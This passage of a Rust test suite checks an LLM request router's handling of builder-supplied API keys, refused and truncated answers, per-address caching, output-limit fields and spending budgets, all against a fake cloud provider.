    assert!(fallback.decision.fell_back(), "{}", fallback.decision);
    let offline = r.complete(ask()).await.unwrap();
    assert_eq!(offline.route, Route::Local);
    assert!(offline.decision.reasons.contains(&Reason::Offline));
    assert_eq!(local.calls(), 2, "the fallback answer was cached");
    let cached = r.complete(ask()).await.unwrap();
    assert_eq!(cached.route, Route::Cache);
    assert_eq!(local.calls(), 2);
    drop(r);

    let fake = FakeProvider::start().await;
    fake.set_reply("From the cloud.");
    let r = build(fake.url());
    let online = r.complete(ask()).await.unwrap();
    assert_eq!(online.route, Route::Cloud, "{}", online.decision);
    assert_eq!(fake.requests_received(), 1);
}

/// An app can give the router the cloud API key from its own keystore: the policy's provider
/// is used with it, whatever the environment holds (here the policy's variable is unset).
#[tokio::test]
async fn the_builders_api_key_reaches_the_policys_provider() {
    let fake = FakeProvider::start().await;
    let build = |key: Option<&str>| {
        let mut b = Router::builder()
            .policy_str(format!(
                "{CLOUD}api_key_env = \"EDGEROUTE_TEST_NEVER_SET\"\n[defaults]\nroute = \"cloud\"\n"
            ))
            .local_backend(Arc::new(EchoModel::default()))
            .cloud_base_url(fake.url())
            .cache(false);
        if let Some(k) = key {
            b = b.cloud_api_key(k);
        }
        b.build().unwrap()
    };
    let without = build(None).complete(Request::new("hello")).await.unwrap();
    assert_eq!(without.route, Route::Local);
    assert_eq!(fake.requests_received(), 0);
    let with = build(Some("sk-from-keystore"))
        .complete(Request::new("hello"))
        .await
        .unwrap();
    assert_eq!(with.route, Route::Cloud, "{}", with.decision);
    assert_eq!(
        fake.last_request().unwrap().headers["authorization"],
        "Bearer sk-from-keystore"
    );
}

/// An empty key from the app means "no key" (its user signed out), never "use the one in the
/// environment": here the policy names a variable that is always set.
#[tokio::test]
async fn an_empty_builder_key_never_falls_back_to_the_environment() {
    let fake = FakeProvider::start().await;
    let r = Router::builder()
        .policy_str(format!(
            "{CLOUD}api_key_env = \"PATH\"\n[defaults]\nroute = \"cloud\"\n"
        ))
        .local_backend(Arc::new(EchoModel::default()))
        .cloud_base_url(fake.url())
        .cloud_api_key("  ")
        .cache(false)
        .build()
        .unwrap();
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local, "{}", resp.decision);
    assert_eq!(fake.requests_received(), 0);
}

/// An answer the provider cut short or stopped says so (`Response::finish`), on both
/// protocols: one cut at the token limit is cached and says so again when served; one stopped
/// by a content filter or refused is not cached (the next request asks again).
#[tokio::test]
async fn cut_short_filtered_and_refused_answers_say_so() {
    use edgeroute::backend::FinishReason;
    let cases = [
        ("openai", "length", FinishReason::Length, true),
        (
            "openai",
            "content_filter",
            FinishReason::ContentFilter,
            false,
        ),
        ("anthropic", "max_tokens", FinishReason::Length, true),
        ("anthropic", "refusal", FinishReason::Refusal, false),
        ("anthropic", "end_turn", FinishReason::Stop, true),
    ];
    for (protocol, stop_reason, finish, cached) in cases {
        let home = tempfile::tempdir().unwrap();
        let fake = FakeProvider::start().await;
        fake.set_reply("The three steps are: 1. Unplug the");
        fake.set_stop_reason(stop_reason);
        let config = match protocol {
            "openai" => fake.openai_config(),
            _ => fake.anthropic_config(),
        };
        let r = Router::builder()
            .policy_str(format!("{CLOUD}[defaults]\nroute = \"cloud\"\n"))
            .local_backend(Arc::new(EchoModel::default()))
            .cloud_backend(Arc::new(CloudBackend::new(config).unwrap()))
            .home(home.path())
            .cache_key([9; 32])
            .build()
            .unwrap();
        let ask = || Request::new("How do I reset the router?");
        let first = r.complete(ask()).await.unwrap();
        let case = format!("{protocol} {stop_reason}");
        assert_eq!(first.route, Route::Cloud, "{case}");
        assert_eq!(first.finish, finish, "{case}");
        assert_eq!(first.finish.is_complete(), finish == FinishReason::Stop);
        let second = r.complete(ask()).await.unwrap();
        assert_eq!(second.cached, cached, "{case}");
        assert_eq!(second.finish, finish, "{case}: the second answer");
        assert_eq!(
            fake.requests_received(),
            if cached { 1 } else { 2 },
            "{case}"
        );
    }
}

/// The cloud's address is part of what answered: the same model id served from another
/// address (`cloud_base_url`, which the CLI's `--cloud-url` sets) does not get the first address's cached
/// answers.
#[tokio::test]
async fn answers_cached_from_one_cloud_address_are_not_served_for_another() {
    let home = tempfile::tempdir().unwrap();
    let (a, b) = (FakeProvider::start().await, FakeProvider::start().await);
    a.set_reply("Answer from server A.");
    b.set_reply("Answer from server B.");
    let ask = || Request::new("hello there");
    for (fake, expected) in [(&a, "Answer from server A."), (&b, "Answer from server B.")] {
        let r = cached_router(
            home.path(),
            "[defaults]\nroute = \"cloud\"\n",
            Arc::new(EchoModel::default()),
            fake,
        );
        let first = r.complete(ask()).await.unwrap();
        assert_eq!((first.route, first.text.as_str()), (Route::Cloud, expected));
        let again = r.complete(ask()).await.unwrap();
        assert_eq!((again.route, again.text.as_str()), (Route::Cache, expected));
    }
    assert_eq!((a.requests_received(), b.requests_received()), (1, 1));
}

/// `[cloud].max_tokens_field = "max_tokens"` sends the output limit in the field servers such
/// as Ollama read (they ignore `max_completion_tokens`, and the answer would have no limit);
/// by default the current OpenAI field is sent.
#[tokio::test]
async fn the_policy_chooses_the_output_limit_field() {
    let fake = FakeProvider::start().await;
    for (line, field, other) in [
        ("", "max_completion_tokens", "max_tokens"),
        (
            "max_tokens_field = \"max_tokens\"\n",
            "max_tokens",
            "max_completion_tokens",
        ),
    ] {
        let r = Router::builder()
            .policy_str(format!(
                "[cloud]\nmodel = \"fake-model\"\nbase_url = \"{}\"\nmax_tokens = 77\n{line}\
                 [defaults]\nroute = \"cloud\"\n",
                fake.url()
            ))
            .cloud_api_key(support::TEST_KEY)
            .local_backend(Arc::new(EchoModel::default()))
            .cache(false)
            .build()
            .unwrap();
        let resp = r.complete(Request::new("hello")).await.unwrap();
        assert_eq!(resp.route, Route::Cloud);
        let body = fake.last_request().unwrap().body;
        assert_eq!(body[field], 77, "{body}");
        assert!(body.get(other).is_none(), "{body}");
    }
}

/// A router without its database has no cost ledger, so nothing could stop it spending: a
/// policy's budget counts as spent and `on_exhausted` applies, whatever the limit.
#[tokio::test]
async fn without_a_cost_ledger_a_budget_counts_as_spent() {
    let fake = FakeProvider::start().await;
    let local = Arc::new(EchoModel::default());
    let budget = |on_exhausted: &str| {
        format!("[budget]\ndaily_usd = \"1000\"\non_exhausted = \"{on_exhausted}\"\n[defaults]\nroute = \"cloud\"\n")
    };
    let r = router(&budget("local"), local.clone(), fake.openai_config());
    let resp = r.complete(Request::new("What is a monad?")).await.unwrap();
    assert_eq!(resp.route, Route::Local, "{}", resp.decision);
    assert!(budget_exhausted(&resp.decision), "{}", resp.decision);
    let r = router(&budget("refuse"), local.clone(), fake.openai_config());
    let err = r
        .complete(Request::new("What is a monad?"))
        .await
        .unwrap_err();
    assert!(matches!(err, Error::Refused { .. }), "{err}");
    assert_eq!(fake.requests_received(), 0);

    // Without a budget the same router calls the cloud.
    let r = router(
        "[defaults]\nroute = \"cloud\"\n",
        local,
        fake.openai_config(),
    );
    let resp = r.complete(Request::new("What is a monad?")).await.unwrap();
    assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
    assert_eq!(fake.requests_received(), 1);
}

/// With `on_exhausted = "refuse"`, a request the budget refuses is still answered from the
/// cache when its rule's plan already has the answer there (it costs nothing); a request with
/// nothing cached is refused.
#[tokio::test]
async fn an_exhausted_budget_still_serves_answers_already_cached() {
    let home = tempfile::tempdir().unwrap();
    let fake = FakeProvider::start().await;
    fake.set_reply("one two three four five six");
    // Six output tokens at $1,000 per million: the first call spends the whole $0.006.
    let r = Router::builder()
        .policy_str(
            "[cloud]\nmodel = \"fake-model\"\noutput_usd_per_mtok = 1000\n\
             [budget]\ndaily_usd = \"0.006\"\non_exhausted = \"refuse\"\n\
             [defaults]\nroute = \"cloud\"\n",
        )
        .local_backend(Arc::new(EchoModel::default()))
        .cloud_backend(Arc::new(CloudBackend::new(fake.openai_config()).unwrap()))
        .home(home.path())
        .cache_key([4; 32])
        .build()
        .unwrap();
    let ask = |prompt: &str| Request::new(prompt).with_max_tokens(6);
    let first = r.complete(ask("Count to six.")).await.unwrap();
    assert_eq!(first.route, Route::Cloud, "{}", first.decision);
    assert_eq!(first.cost.usd, Decimal::new(6, 3));

    let again = r.complete(ask("Count to six.")).await.unwrap();
    assert_eq!(again.route, Route::Cache, "{}", again.decision);
    assert_eq!(again.text, first.text);
    assert!(budget_exhausted(&again.decision));

    let err = r.complete(ask("Count to seven.")).await.unwrap_err();
    assert!(matches!(err, Error::Refused { .. }), "{err}");
    assert_eq!(fake.requests_received(), 1);
}
